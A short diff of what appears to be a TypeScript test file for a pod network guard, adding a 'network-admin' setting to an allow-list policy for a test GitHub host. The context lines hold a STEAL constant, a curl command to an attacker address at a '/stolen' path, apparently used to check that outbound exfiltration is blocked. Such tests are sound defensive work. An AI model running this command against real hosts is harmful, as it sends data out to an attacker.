@@ -8,7 +8,8 @@ import { guardTablesOf, startGuard, waitUntil } from "./support/guard-in-pod.ts"
 import { toGuardedPod, toPolicy } from "./support/guarded-pod.ts";
 
 const obstacle = findObstacle();
-const GITHUB = toPolicy({ allow: ["github.test"] });
+/** A guard within a guard takes the right that its own command is to be without. */
+const GITHUB = toPolicy({ allow: ["github.test"], "network-admin": "keep" });
 const EVIL = toPolicy({ allow: ["evil.test"] });
 const STEAL = `curl -4 -sS -m 2 http://${ATTACKER.ipv4}/stolen`;
 
